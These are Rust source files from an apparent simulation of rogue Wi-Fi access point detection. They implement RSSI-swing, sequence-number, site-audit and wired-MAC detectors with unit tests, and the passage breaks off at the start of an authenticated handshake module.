//! (the channel model draws per-link log-normal shadowing), so the
//! detector demands *repeated* implausible swings inside a short window
//! before alerting, and keeps its confidence weight modest — RSSI is
//! corroborating evidence, not a conviction.

use std::collections::HashMap;

use rogue_dot11::MacAddr;
use rogue_sim::{SimDuration, SimTime};

use crate::detector::{AlertKind, Detector, RawAlert};
use crate::event::{Dot11Kind, SensorEvent};

/// Plausibility tuning.
#[derive(Clone, Debug)]
pub struct RssiSplitConfig {
    /// Swing between consecutive readings (same TA, same sensor, same
    /// channel) counted as implausible, in dB. Should sit well above the
    /// channel's shadowing sigma; ~3 sigma plus margin.
    pub swing_db: f64,
    /// Implausible swings within [`RssiSplitConfig::window`] needed to
    /// alert.
    pub threshold: u32,
    /// Sliding evidence window.
    pub window: SimDuration,
}

impl Default for RssiSplitConfig {
    fn default() -> Self {
        RssiSplitConfig {
            swing_db: 12.0,
            threshold: 4,
            window: SimDuration::from_secs(2),
        }
    }
}

struct TaState {
    last_rssi: f64,
    swings: Vec<SimTime>,
    alerted: bool,
}

/// The signal-strength inconsistency detector.
pub struct RssiSplitDetector {
    cfg: RssiSplitConfig,
    // Keyed by (ta, sensor, channel): comparing readings across sensors
    // or channels would just measure geometry, not inconsistency.
    per_ta: HashMap<(MacAddr, u16, u8), TaState>,
}

impl RssiSplitDetector {
    /// Detector with the given tuning.
    pub fn new(cfg: RssiSplitConfig) -> RssiSplitDetector {
        RssiSplitDetector {
            cfg,
            per_ta: HashMap::new(),
        }
    }
}

impl Default for RssiSplitDetector {
    fn default() -> Self {
        RssiSplitDetector::new(RssiSplitConfig::default())
    }
}

impl Detector for RssiSplitDetector {
    fn name(&self) -> &'static str {
        "rssi-split"
    }

    fn on_event(&mut self, ev: &SensorEvent, out: &mut Vec<RawAlert>) {
        let SensorEvent::Dot11(e) = ev else { return };
        if e.kind == Dot11Kind::Ack {
            return; // no transmitter address to attribute the reading to
        }
        let key = (e.ta, e.sensor.0, e.channel);
        let st = match self.per_ta.get_mut(&key) {
            Some(st) => st,
            None => {
                self.per_ta.insert(
                    key,
                    TaState {
                        last_rssi: e.rssi_dbm,
                        swings: Vec::new(),
                        alerted: false,
                    },
                );
                return;
            }
        };
        let swing = (e.rssi_dbm - st.last_rssi).abs();
        st.last_rssi = e.rssi_dbm;
        if swing < self.cfg.swing_db {
            return;
        }
        st.swings.push(e.at);
        let window_start = SimTime(e.at.as_nanos().saturating_sub(self.cfg.window.as_nanos()));
        st.swings.retain(|&t| t >= window_start);
        if st.swings.len() as u32 >= self.cfg.threshold && !st.alerted {
            st.alerted = true;
            out.push(RawAlert {
                at: e.at,
                detector: "rssi-split",
                subject: e.ta,
                kind: AlertKind::RssiInconsistent,
                weight: 0.5,
                detail: format!(
                    "{} swings > {:.0} dB within {} on channel {}",
                    st.swings.len(),
                    self.cfg.swing_db,
                    self.cfg.window,
                    e.channel
                ),
            });
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::event::{Dot11Event, SensorId};

    fn data(ms: u64, rssi: f64) -> SensorEvent {
        SensorEvent::Dot11(Dot11Event {
            sensor: SensorId(0),
            at: SimTime::from_millis(ms),
            channel: 1,
            rssi_dbm: rssi,
            ta: MacAddr::local(1),
            ra: MacAddr::local(2),
            bssid: MacAddr::local(1),
            seq: (ms % 4096) as u16,
            retry: false,
            kind: Dot11Kind::Data { protected: false },
        })
    }

    #[test]
    fn interleaved_positions_alert() {
        let mut d = RssiSplitDetector::default();
        let mut out = Vec::new();
        // Two radios ~25 dB apart taking turns under one address.
        for i in 0..12u64 {
            let rssi = if i % 2 == 0 { -40.0 } else { -65.0 };
            d.on_event(&data(i * 100, rssi), &mut out);
        }
        assert_eq!(out.len(), 1, "{out:?}");
        assert_eq!(out[0].kind, AlertKind::RssiInconsistent);
        assert_eq!(out[0].subject, MacAddr::local(1));
    }

    #[test]
    fn shadowing_noise_tolerated() {
        let mut d = RssiSplitDetector::default();
        let mut out = Vec::new();
        // +-4 dB wobble around -50: inside any plausible sigma.
        for i in 0..50u64 {
            let rssi = -50.0 + if i % 2 == 0 { 4.0 } else { -4.0 };
            d.on_event(&data(i * 50, rssi), &mut out);
        }
        assert!(out.is_empty(), "{out:?}");
    }

    #[test]
    fn one_outlier_is_not_enough() {
        let mut d = RssiSplitDetector::default();
        let mut out = Vec::new();
        d.on_event(&data(0, -50.0), &mut out);
        d.on_event(&data(10, -80.0), &mut out); // single deep fade
        for i in 2..20u64 {
            d.on_event(&data(i * 10, -50.0), &mut out);
        }
        // The recovery swing counts too, but 2 < threshold 4.
        assert!(out.is_empty(), "{out:?}");
    }
}
