//! Wired-segment monitoring.
//!
//! "Depending on your deployment scenario, monitoring the traffic on the
//! wired LAN can also aid in detection of Rogue APs" (§2.3) — it catches
//! a rogue AP *plugged into the wired network*. The paper's client-side
//! rogue is wireless-backhauled and never appears here, which is why the
//! defence-matrix experiment shows this monitor silent for the Figure 1
//! attack.

use std::collections::HashSet;

use bytes::Bytes;
use rogue_dot11::MacAddr;
use rogue_netstack::ethernet::EthFrame;
use rogue_sim::SimTime;

use crate::{Alarm, AlarmKind};

/// A registry-based wired monitor.
pub struct WiredMonitor {
    known: HashSet<MacAddr>,
    seen_strangers: HashSet<MacAddr>,
    /// Findings.
    pub alarms: Vec<Alarm>,
    /// Frames inspected.
    pub inspected: u64,
}

impl WiredMonitor {
    /// Monitor with the given authorized-device registry.
    pub fn new(known: impl IntoIterator<Item = MacAddr>) -> WiredMonitor {
        WiredMonitor {
            known: known.into_iter().collect(),
            seen_strangers: HashSet::new(),
            alarms: Vec::new(),
            inspected: 0,
        }
    }

    /// Add a device to the registry.
    pub fn register(&mut self, mac: MacAddr) {
        self.known.insert(mac);
    }

    /// Inspect one wired frame.
    pub fn inspect(&mut self, at: SimTime, frame_bytes: &Bytes) {
        self.inspected += 1;
        let Some(eth) = EthFrame::decode(frame_bytes) else {
            return;
        };
        if !self.known.contains(&eth.src) && self.seen_strangers.insert(eth.src) {
            self.alarms.push(Alarm {
                at,
                subject: eth.src,
                kind: AlarmKind::WiredStranger,
                detail: format!("unknown source MAC {} on wired segment", eth.src),
            });
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use bytes::Bytes;

    fn frame(src: MacAddr) -> Bytes {
        EthFrame::new(MacAddr::BROADCAST, src, 0x0800, Bytes::from_static(b"x")).encode()
    }

    #[test]
    fn known_devices_pass() {
        let mut m = WiredMonitor::new([MacAddr::local(1), MacAddr::local(2)]);
        m.inspect(SimTime::ZERO, &frame(MacAddr::local(1)));
        m.inspect(SimTime::ZERO, &frame(MacAddr::local(2)));
        assert!(m.alarms.is_empty());
        assert_eq!(m.inspected, 2);
    }

    #[test]
    fn stranger_alarms_once() {
        let mut m = WiredMonitor::new([MacAddr::local(1)]);
        m.inspect(SimTime::from_millis(5), &frame(MacAddr::local(66)));
        m.inspect(SimTime::from_millis(6), &frame(MacAddr::local(66)));
        assert_eq!(m.alarms.len(), 1);
        assert_eq!(m.alarms[0].kind, AlarmKind::WiredStranger);
        assert_eq!(m.alarms[0].subject, MacAddr::local(66));
    }

    #[test]
    fn late_registration_suppresses() {
        let mut m = WiredMonitor::new([]);
        m.register(MacAddr::local(9));
        m.inspect(SimTime::ZERO, &frame(MacAddr::local(9)));
        assert!(m.alarms.is_empty());
    }

    #[test]
    fn garbage_ignored() {
        let mut m = WiredMonitor::new([]);
        m.inspect(SimTime::ZERO, &Bytes::from_static(b"short"));
        assert!(m.alarms.is_empty());
    }
}
