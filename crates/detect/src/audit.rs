//! Radio site audit.
//!
//! "Good record keeping and doing radio site audits will help detect
//! these rogues" (§2.3). The auditor sweeps channels with a monitor
//! radio, collects beacons, and compares them against each other and an
//! optional authorized-AP registry.

use std::collections::{HashMap, HashSet};

use rogue_dot11::monitor::Sniffer;
use rogue_dot11::MacAddr;
use rogue_phy::{Bitrate, Medium, RadioId};
use rogue_sim::SimTime;

use crate::{Alarm, AlarmKind};

/// Predicted audibility of one transmitter at one audit sensor, from the
/// medium's deterministic (shadowing-free) propagation model.
#[derive(Clone, Copy, Debug)]
pub struct CoveragePrediction {
    /// The transmitter (typically an authorized AP).
    pub ap: RadioId,
    /// The audit sensor radio.
    pub sensor: RadioId,
    /// Predicted received power at the sensor, dBm.
    pub predicted_rssi_dbm: f64,
    /// Whether the prediction clears the weakest (1 Mbps) sensitivity —
    /// i.e. the sensor should be able to log this AP's beacons.
    pub decodable: bool,
}

/// Predict which of `aps` every audit `sensor` should hear, and at what
/// RSSI. Planning a sweep against these predictions tells the auditor
/// where an AP falling silent (or a rogue appearing far louder than the
/// site survey predicts) is meaningful rather than expected.
///
/// Estimates are served from the medium's shared pairwise path-loss
/// cache, so a site-wide prediction matrix costs one geometry solve per
/// (ap, sensor) pair — repeat audits and the medium's own decode path
/// reuse the same entries.
pub fn predict_coverage(
    medium: &Medium,
    aps: &[RadioId],
    sensors: &[RadioId],
) -> Vec<CoveragePrediction> {
    let mut out = Vec::with_capacity(aps.len() * sensors.len());
    for &ap in aps {
        for &sensor in sensors {
            if ap == sensor {
                continue;
            }
            let rssi = medium.rssi_estimate_dbm(ap, sensor);
            out.push(CoveragePrediction {
                ap,
                sensor,
                predicted_rssi_dbm: rssi,
                decodable: rssi >= Bitrate::MIN_SENSITIVITY_DBM,
            });
        }
    }
    out
}

/// One audited network observation.
#[derive(Clone, Debug)]
pub struct BssObservation {
    /// BSSID.
    pub bssid: MacAddr,
    /// SSID.
    pub ssid: String,
    /// Channels this BSSID was heard beaconing on.
    pub channels: Vec<u8>,
    /// First time heard.
    pub first_heard: SimTime,
    /// Strongest RSSI observed.
    pub best_rssi_dbm: f64,
}

/// The auditor: digest a sweep capture into observations and alarms.
pub struct SiteAuditor {
    /// Authorized (bssid, channel) pairs; empty = no registry.
    authorized: HashSet<(MacAddr, u8)>,
    /// Findings.
    pub alarms: Vec<Alarm>,
}

impl Default for SiteAuditor {
    fn default() -> Self {
        Self::new()
    }
}

impl SiteAuditor {
    /// Auditor with no registry.
    pub fn new() -> SiteAuditor {
        SiteAuditor {
            authorized: HashSet::new(),
            alarms: Vec::new(),
        }
    }

    /// Register an authorized AP (good record keeping).
    pub fn authorize(&mut self, bssid: MacAddr, channel: u8) {
        self.authorized.insert((bssid, channel));
    }

    /// Digest a sweep capture. Returns the per-BSS observations.
    pub fn audit(&mut self, sniffer: &Sniffer) -> Vec<BssObservation> {
        #[derive(Default)]
        struct Acc {
            ssid: String,
            channels: Vec<u8>,
            /// When each distinct channel was first heard.
            chan_first: Vec<SimTime>,
            first: Option<SimTime>,
            best: f64,
        }
        let mut by_bssid: HashMap<MacAddr, Acc> = HashMap::new();
        for (at, bssid, ssid, _claimed, heard, rssi) in sniffer.beacons() {
            let acc = by_bssid.entry(bssid).or_insert_with(|| Acc {
                ssid: ssid.clone(),
                channels: Vec::new(),
                chan_first: Vec::new(),
                first: None,
                best: f64::NEG_INFINITY,
            });
            if !acc.channels.contains(&heard) {
                acc.channels.push(heard);
                acc.chan_first.push(at);
            }
            if acc.first.is_none() {
                acc.first = Some(at);
            }
            acc.best = acc.best.max(rssi);
            if acc.ssid != ssid {
                // Same BSSID advertising different SSIDs: treat as a
                // capability mismatch.
                self.alarm_once(
                    at,
                    bssid,
                    AlarmKind::CapabilityMismatch,
                    format!("SSID flip: {:?} vs {:?}", acc.ssid, ssid),
                );
            }
        }

        let mut out = Vec::new();
        for (bssid, acc) in by_bssid {
            let first = acc.first.expect("at least one beacon");
            if acc.channels.len() > 1 {
                // The evidence instant is when the *second* channel was
                // first heard — detection latency is measured from there.
                let evidence_at = acc.chan_first.get(1).copied().unwrap_or(first);
                self.alarm_once(
                    evidence_at,
                    bssid,
                    AlarmKind::DuplicateBssid,
                    format!("BSSID beaconing on channels {:?}", acc.channels),
                );
            }
            if !self.authorized.is_empty() {
                for (i, &ch) in acc.channels.iter().enumerate() {
                    if !self.authorized.contains(&(bssid, ch)) {
                        let at = acc.chan_first.get(i).copied().unwrap_or(first);
                        self.alarm_once(
                            at,
                            bssid,
                            AlarmKind::DuplicateBssid,
                            format!("unregistered AP on channel {ch} (ssid {:?})", acc.ssid),
                        );
                    }
                }
            }
            out.push(BssObservation {
                bssid,
                ssid: acc.ssid,
                channels: acc.channels,
                first_heard: first,
                best_rssi_dbm: acc.best,
            });
        }
        out.sort_by_key(|o| o.bssid);
        out
    }

    fn alarm_once(&mut self, at: SimTime, subject: MacAddr, kind: AlarmKind, detail: String) {
        if !self
            .alarms
            .iter()
            .any(|a| a.subject == subject && a.kind == kind && a.detail == detail)
        {
            self.alarms.push(Alarm {
                at,
                subject,
                kind,
                detail,
            });
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use rogue_dot11::frame::{Frame, FrameBody, MgmtInfo, CAP_ESS};

    fn beacon_bytes(bssid: MacAddr, ssid: &str, channel: u8) -> bytes::Bytes {
        Frame::new(
            MacAddr::BROADCAST,
            bssid,
            bssid,
            FrameBody::Beacon(MgmtInfo {
                timestamp: 0,
                beacon_interval_tu: 100,
                capability: CAP_ESS,
                ssid: ssid.into(),
                channel,
            }),
        )
        .encode()
    }

    #[test]
    fn clean_network_no_alarms() {
        let mut sniffer = Sniffer::new();
        sniffer.on_receive(
            SimTime::ZERO,
            &beacon_bytes(MacAddr::local(1), "CORP", 1),
            -50.0,
            1,
        );
        sniffer.on_receive(
            SimTime::from_millis(100),
            &beacon_bytes(MacAddr::local(2), "CORP", 6),
            -60.0,
            6,
        );
        let mut auditor = SiteAuditor::new();
        let obs = auditor.audit(&sniffer);
        assert_eq!(obs.len(), 2, "two legitimate ESS members");
        assert!(auditor.alarms.is_empty());
    }

    #[test]
    fn cloned_bssid_on_second_channel_alarms() {
        // Figure 1: the same BSSID on channels 1 and 6.
        let bssid = MacAddr::local(1);
        let mut sniffer = Sniffer::new();
        sniffer.on_receive(SimTime::ZERO, &beacon_bytes(bssid, "CORP", 1), -50.0, 1);
        sniffer.on_receive(
            SimTime::from_millis(120),
            &beacon_bytes(bssid, "CORP", 6),
            -45.0,
            6,
        );
        let mut auditor = SiteAuditor::new();
        let obs = auditor.audit(&sniffer);
        assert_eq!(obs.len(), 1);
        assert_eq!(obs[0].channels.len(), 2);
        assert!(auditor
            .alarms
            .iter()
            .any(|a| a.kind == AlarmKind::DuplicateBssid && a.subject == bssid));
    }

    #[test]
    fn registry_flags_unregistered_ap() {
        let legit = MacAddr::local(1);
        let rogue = MacAddr::local(66);
        let mut sniffer = Sniffer::new();
        sniffer.on_receive(SimTime::ZERO, &beacon_bytes(legit, "CORP", 1), -50.0, 1);
        sniffer.on_receive(
            SimTime::from_millis(10),
            &beacon_bytes(rogue, "CORP", 6),
            -40.0,
            6,
        );
        let mut auditor = SiteAuditor::new();
        auditor.authorize(legit, 1);
        auditor.audit(&sniffer);
        assert!(auditor.alarms.iter().any(|a| a.subject == rogue));
        assert!(!auditor.alarms.iter().any(|a| a.subject == legit));
    }

    #[test]
    fn coverage_predictions_match_the_medium() {
        use rogue_phy::{MediumParams, Pos};
        use rogue_sim::Seed;

        let mut m = Medium::new(MediumParams::default(), Seed(3));
        let ap = m.add_radio(Pos::new(0.0, 0.0), 1, 15.0);
        let near = m.add_radio(Pos::new(20.0, 0.0), 1, 15.0);
        let far = m.add_radio(Pos::new(5000.0, 0.0), 1, 15.0);

        let preds = predict_coverage(&m, &[ap], &[near, far]);
        assert_eq!(preds.len(), 2);
        let at = |s: RadioId| preds.iter().find(|p| p.sensor == s).unwrap();
        assert!(at(near).decodable, "20 m sensor must be in coverage");
        assert!(!at(far).decodable, "5 km sensor must be out of coverage");
        // 15 dBm - (40 + 30·log10(20)) ≈ -64 dBm.
        assert!((at(near).predicted_rssi_dbm - -64.03).abs() < 0.05);

        // Predictions are served from the medium's shared path-loss
        // cache: a repeat audit hits instead of re-solving geometry.
        let (_, hits_before, _) = m.pathloss_cache_stats();
        let again = predict_coverage(&m, &[ap], &[near, far]);
        let (_, hits_after, _) = m.pathloss_cache_stats();
        assert!(hits_after >= hits_before + 2, "repeat audit must hit cache");
        assert_eq!(
            again[0].predicted_rssi_dbm.to_bits(),
            preds[0].predicted_rssi_dbm.to_bits()
        );
    }

    #[test]
    fn ssid_flip_alarms() {
        let bssid = MacAddr::local(1);
        let mut sniffer = Sniffer::new();
        sniffer.on_receive(SimTime::ZERO, &beacon_bytes(bssid, "CORP", 1), -50.0, 1);
        sniffer.on_receive(
            SimTime::from_millis(10),
            &beacon_bytes(bssid, "FREEWIFI", 1),
            -50.0,
            1,
        );
        let mut auditor = SiteAuditor::new();
        auditor.audit(&sniffer);
        assert!(auditor
            .alarms
            .iter()
            .any(|a| a.kind == AlarmKind::CapabilityMismatch));
    }
}
