//! Sequence-control monitoring (Wright's MAC-spoof detector).
//!
//! Every 802.11 transmitter stamps frames from a single modulo-4096
//! counter. Two radios sharing one address — the legitimate AP and the
//! BSSID-cloning rogue — cannot share a counter, so an observer sees the
//! merged stream jump backward over and over. Occasional backward jumps
//! happen legitimately (counter wrap, reordered capture), so the detector
//! requires several anomalies within a window before alarming.

use std::collections::HashMap;

use rogue_dot11::monitor::Sniffer;
use rogue_dot11::MacAddr;
use rogue_sim::{SimDuration, SimTime};

use crate::{Alarm, AlarmKind};

/// Detector tuning.
#[derive(Clone, Debug)]
pub struct SeqMonConfig {
    /// Forward deltas up to this are normal (allows missed frames).
    pub max_normal_gap: u16,
    /// Deltas at least this close to 4096 are treated as wrap, not
    /// anomaly (a wrap shows as a *small* forward delta, but reordered
    /// captures can produce tiny backward steps; tolerate them).
    pub reorder_tolerance: u16,
    /// Anomalies within [`SeqMonConfig::window`] needed to alarm.
    pub alarm_threshold: u32,
    /// Sliding evidence window.
    pub window: SimDuration,
}

impl Default for SeqMonConfig {
    fn default() -> Self {
        SeqMonConfig {
            max_normal_gap: 64,
            reorder_tolerance: 8,
            alarm_threshold: 3,
            window: SimDuration::from_secs(2),
        }
    }
}

struct TaState {
    last_seq: Option<u16>,
    last_channel: Option<u8>,
    anomaly_times: Vec<SimTime>,
    alarmed_seq: bool,
    alarmed_chan: bool,
}

/// The monitor.
pub struct SeqMonitor {
    cfg: SeqMonConfig,
    per_ta: HashMap<MacAddr, TaState>,
    /// Raised alarms, in order.
    pub alarms: Vec<Alarm>,
    /// Frames observed.
    pub observed: u64,
}

impl SeqMonitor {
    /// Monitor with default tuning.
    pub fn new(cfg: SeqMonConfig) -> SeqMonitor {
        SeqMonitor {
            cfg,
            per_ta: HashMap::new(),
            alarms: Vec::new(),
            observed: 0,
        }
    }

    /// Observe one frame header (assumes the retry flag is clear; use
    /// [`SeqMonitor::observe_frame`] when the flag is known).
    pub fn observe(&mut self, at: SimTime, ta: MacAddr, seq: u16, channel: u8) {
        self.observe_frame(at, ta, seq, channel, false);
    }

    /// Observe one frame header, with the header's retry flag. An 802.11
    /// retransmission legitimately repeats its sequence number (with
    /// retry set), so only non-retry duplicates count as evidence.
    pub fn observe_frame(&mut self, at: SimTime, ta: MacAddr, seq: u16, channel: u8, retry: bool) {
        self.observed += 1;
        let st = self.per_ta.entry(ta).or_insert(TaState {
            last_seq: None,
            last_channel: None,
            anomaly_times: Vec::new(),
            alarmed_seq: false,
            alarmed_chan: false,
        });

        // Channel divergence is immediate, unambiguous evidence.
        if let Some(prev) = st.last_channel {
            if prev != channel && !st.alarmed_chan {
                st.alarmed_chan = true;
                self.alarms.push(Alarm {
                    at,
                    subject: ta,
                    kind: AlarmKind::ChannelDivergence,
                    detail: format!("heard on channel {prev} and {channel}"),
                });
            }
        }
        st.last_channel = Some(channel);

        if let Some(last) = st.last_seq {
            // Wright's spoof signature: the merged stream of two radios
            // behind one address either repeats a counter value outright
            // (a non-retry exact duplicate — ARQ retransmissions repeat
            // the number but set the retry flag) or jumps backward by
            // more than capture reordering can explain. All arithmetic
            // is modulo 4096, so the 0x0FFF -> 0x000 wrap shows up as a
            // small forward delta and stays clean.
            let delta = seq.wrapping_sub(last) & 0x0FFF;
            let is_anomaly = (delta == 0 && !retry)
                || (delta > self.cfg.max_normal_gap && delta < 4096 - self.cfg.reorder_tolerance);
            if is_anomaly {
                st.anomaly_times.push(at);
                let window_start =
                    SimTime(at.as_nanos().saturating_sub(self.cfg.window.as_nanos()));
                st.anomaly_times.retain(|&t| t >= window_start);
                if st.anomaly_times.len() as u32 >= self.cfg.alarm_threshold && !st.alarmed_seq {
                    st.alarmed_seq = true;
                    self.alarms.push(Alarm {
                        at,
                        subject: ta,
                        kind: AlarmKind::SequenceAnomaly,
                        detail: format!(
                            "{} interleaved-counter jumps within {}",
                            st.anomaly_times.len(),
                            self.cfg.window
                        ),
                    });
                }
            }
        }
        st.last_seq = Some(seq);
    }

    /// Feed every frame a sniffer captured from transmitter `ta`.
    pub fn feed_sniffer(&mut self, sniffer: &Sniffer, ta: MacAddr) {
        use rogue_dot11::frame::FrameBody;
        for c in &sniffer.captures {
            if c.frame.addr2 == ta && c.frame.body != FrameBody::Ack {
                self.observe_frame(c.at, ta, c.frame.seq, c.channel, c.frame.retry);
            }
        }
    }

    /// The earliest alarm of a given kind, if any.
    pub fn first_alarm(&self, kind: AlarmKind) -> Option<&Alarm> {
        self.alarms.iter().find(|a| a.kind == kind)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn t(ms: u64) -> SimTime {
        SimTime::from_millis(ms)
    }

    #[test]
    fn single_counter_is_clean() {
        let mut m = SeqMonitor::new(SeqMonConfig::default());
        let ta = MacAddr::local(1);
        for i in 0..500u16 {
            m.observe(t(i as u64 * 10), ta, i % 4096, 1);
        }
        assert!(m.alarms.is_empty());
    }

    #[test]
    fn counter_wrap_is_not_an_anomaly() {
        let mut m = SeqMonitor::new(SeqMonConfig::default());
        let ta = MacAddr::local(1);
        for i in 0..200u16 {
            m.observe(t(i as u64 * 10), ta, (4000 + i) % 4096, 1);
        }
        assert!(m.alarms.is_empty(), "wrap must not alarm: {:?}", m.alarms);
    }

    #[test]
    fn gaps_from_missed_frames_tolerated() {
        let mut m = SeqMonitor::new(SeqMonConfig::default());
        let ta = MacAddr::local(1);
        // Monitor misses most frames: deltas of ~40.
        for i in 0..100u16 {
            m.observe(t(i as u64 * 100), ta, (i * 40) % 4096, 1);
        }
        assert!(m.alarms.is_empty());
    }

    #[test]
    fn interleaved_counters_alarm() {
        let mut m = SeqMonitor::new(SeqMonConfig::default());
        let ta = MacAddr::local(1);
        // Legit AP around seq 100+, rogue around seq 3000+: merged stream.
        let mut legit = 100u16;
        let mut rogue = 3000u16;
        for i in 0..40 {
            let (seq, src_legit) = if i % 2 == 0 {
                legit += 1;
                (legit, true)
            } else {
                rogue += 1;
                (rogue, false)
            };
            let _ = src_legit;
            m.observe(t(i as u64 * 50), ta, seq % 4096, 1);
        }
        let alarm = m
            .first_alarm(AlarmKind::SequenceAnomaly)
            .expect("interleaving must alarm");
        assert!(alarm.at <= t(2000), "detected quickly, got {}", alarm.at);
    }

    #[test]
    fn channel_divergence_alarms_immediately() {
        let mut m = SeqMonitor::new(SeqMonConfig::default());
        let ta = MacAddr::local(1);
        m.observe(t(0), ta, 1, 1);
        m.observe(t(10), ta, 2, 6);
        let alarm = m.first_alarm(AlarmKind::ChannelDivergence).expect("alarm");
        assert_eq!(alarm.at, t(10));
        // Only alarmed once.
        m.observe(t(20), ta, 3, 1);
        assert_eq!(
            m.alarms
                .iter()
                .filter(|a| a.kind == AlarmKind::ChannelDivergence)
                .count(),
            1
        );
    }

    #[test]
    fn anomalies_outside_window_do_not_accumulate() {
        let cfg = SeqMonConfig {
            window: SimDuration::from_millis(100),
            ..SeqMonConfig::default()
        };
        let mut m = SeqMonitor::new(cfg);
        let ta = MacAddr::local(1);
        // One big jump every second: never 3 within 100 ms.
        let mut seq = 0u16;
        for i in 0..20 {
            seq = (seq + 2000) % 4096;
            m.observe(t(i * 1000), ta, seq, 1);
        }
        assert!(m.first_alarm(AlarmKind::SequenceAnomaly).is_none());
    }

    #[test]
    fn nonretry_duplicates_alarm() {
        // Two radios that collide on counter values repeat sequence
        // numbers without the retry flag — Wright's duplicate signature.
        let mut m = SeqMonitor::new(SeqMonConfig::default());
        let ta = MacAddr::local(1);
        for i in 0..10u64 {
            m.observe_frame(t(i * 20), ta, 100, 1, false);
        }
        let alarm = m
            .first_alarm(AlarmKind::SequenceAnomaly)
            .expect("duplicates must alarm");
        assert!(alarm.at <= t(200));
    }

    #[test]
    fn retry_duplicates_are_clean() {
        // An ARQ retransmission repeats the number with retry set: normal.
        let mut m = SeqMonitor::new(SeqMonConfig::default());
        let ta = MacAddr::local(1);
        let mut seq = 0u16;
        for i in 0..60u64 {
            if i % 3 == 2 {
                m.observe_frame(t(i * 10), ta, seq, 1, true); // retry
            } else {
                seq = (seq + 1) & 0x0FFF;
                m.observe_frame(t(i * 10), ta, seq, 1, false);
            }
        }
        assert!(m.alarms.is_empty(), "{:?}", m.alarms);
    }

    #[test]
    fn wrap_at_0x0fff_boundary_is_clean() {
        // Regression: 0x0FFE, 0x0FFF, 0x000, 0x001 is one healthy
        // counter crossing the modulo-4096 wrap.
        let mut m = SeqMonitor::new(SeqMonConfig::default());
        let ta = MacAddr::local(1);
        for (i, seq) in [0x0FFEu16, 0x0FFF, 0x000, 0x001].into_iter().enumerate() {
            m.observe_frame(t(i as u64 * 10), ta, seq, 1, false);
        }
        assert!(m.alarms.is_empty(), "wrap must not alarm: {:?}", m.alarms);
    }

    #[test]
    fn backward_jumps_near_wrap_still_alarm() {
        // Jumping from low numbers back up close to 0x0FFF is a backward
        // step (delta ≈ 4096 - jump), anomalous while it stays outside
        // the reorder tolerance band.
        let mut m = SeqMonitor::new(SeqMonConfig::default());
        let ta = MacAddr::local(1);
        let mut low = 5u16;
        let mut high = 0x0FF0u16;
        for i in 0..12u64 {
            let seq = if i % 2 == 0 {
                low += 1;
                low
            } else {
                high = (high + 1) & 0x0FFF;
                high
            };
            m.observe_frame(t(i * 20), ta, seq, 1, false);
        }
        assert!(
            m.first_alarm(AlarmKind::SequenceAnomaly).is_some(),
            "interleaving across the wrap must alarm"
        );
    }

    #[test]
    fn distinct_transmitters_tracked_separately() {
        let mut m = SeqMonitor::new(SeqMonConfig::default());
        // Two different TAs at wildly different counters: fine.
        for i in 0..50u16 {
            m.observe(t(i as u64 * 10), MacAddr::local(1), 100 + i, 1);
            m.observe(t(i as u64 * 10 + 5), MacAddr::local(2), 3000 + i, 1);
        }
        assert!(m.alarms.is_empty());
    }
}
