//! # rogue-detect — detecting rogue access points
//!
//! Section 2.3 of the paper: "There are recommended standard practices
//! for … monitoring both your wired and wireless networks for indications
//! of Rogue Access Points. … These techniques rely on monitoring 802.11b
//! Sequence Control numbers. Depending on your deployment scenario,
//! monitoring the traffic on the wired LAN can also aid in detection."
//! (The Wright reference \[15\] is the sequence-number MAC-spoof detector.)
//!
//! Three detectors:
//!
//! * [`seqmon::SeqMonitor`] — per-transmitter 802.11 sequence-control
//!   tracking: a cloned BSSID produces two interleaved counters, visible
//!   as repeated large backward jumps; hearing one transmitter on two
//!   channels at once is even stronger evidence,
//! * [`audit::SiteAuditor`] — radio site survey over captured beacons:
//!   the same BSSID beaconing on two channels, or advertising differing
//!   capabilities, is flagged,
//! * [`wired::WiredMonitor`] — wired-segment MAC registry; flags unknown
//!   source addresses. (In the paper's client-side rogue scenario this
//!   detector stays silent — the rogue never touches the wired LAN —
//!   which is exactly the limitation §1 points out.)

pub mod audit;
pub mod seqmon;
pub mod wired;

use rogue_dot11::MacAddr;
use rogue_sim::SimTime;

/// A detection alarm.
#[derive(Clone, Debug, PartialEq)]
pub struct Alarm {
    /// When the evidence crossed the threshold.
    pub at: SimTime,
    /// The offending address (TA / BSSID / wired source).
    pub subject: MacAddr,
    /// What tripped.
    pub kind: AlarmKind,
    /// Human-readable evidence summary.
    pub detail: String,
}

/// Alarm categories.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum AlarmKind {
    /// Interleaved sequence counters behind one transmitter address.
    SequenceAnomaly,
    /// One transmitter heard on multiple channels concurrently.
    ChannelDivergence,
    /// One BSSID beaconing on multiple channels (site audit).
    DuplicateBssid,
    /// Beacons for one BSSID advertise inconsistent capabilities.
    CapabilityMismatch,
    /// Unknown source MAC on a controlled wired segment.
    WiredStranger,
}
