//! Handshake messages, record protection and replay defense.
//!
//! Handshake (3 messages, PSK-authenticated ephemeral DH):
//!
//! ```text
//! C -> S  ClientHello { client_id, nonce_c, g^x }
//! S -> C  ServerHello { nonce_s, g^y, HMAC(psk, "server-auth" ∥ T) }
//! C -> S  ClientAuth  { HMAC(psk, "client-auth" ∥ T) }
//! ```
//!
//! where `T = client_id ∥ nonce_c ∥ nonce_s ∥ g^x ∥ g^y`. Both sides
//! derive directional ChaCha20 and HMAC-SHA1 keys from `g^xy` bound to
//! the nonces. A man in the middle relaying the handshake unchanged
//! learns nothing; one substituting its own DH shares cannot produce the
//! PSK-bound authenticators.
//!
//! Records: `seq ∥ tag ∥ ChaCha20(key, nonce=seq, payload)` with
//! `tag = HMAC-SHA1-96(mac_key, seq ∥ ciphertext)` and a 64-entry
//! sliding replay window on receive.
//!
//! The record path is zero-copy (DESIGN.md §12): `seal_record` builds
//! the encoded wire record in a single buffer, encrypts the payload
//! region in place and MACs it by resuming precomputed HMAC midstates;
//! `Message::decode` hands the ciphertext back as a [`Bytes`] slice of
//! the received buffer, and `open` decrypts in place whenever it holds
//! the last reference to that buffer.

use bytes::Bytes;
use rogue_crypto::chacha20::ChaCha20;
use rogue_crypto::dh::{DhKeyPair, ELEMENT_LEN, EXPONENT_LEN};
use rogue_crypto::hmac::{derive_key, hmac_sha1, verify_tag, HmacSha1};
use rogue_sim::SimRng;

/// Pre-shared key length used by the reproduction.
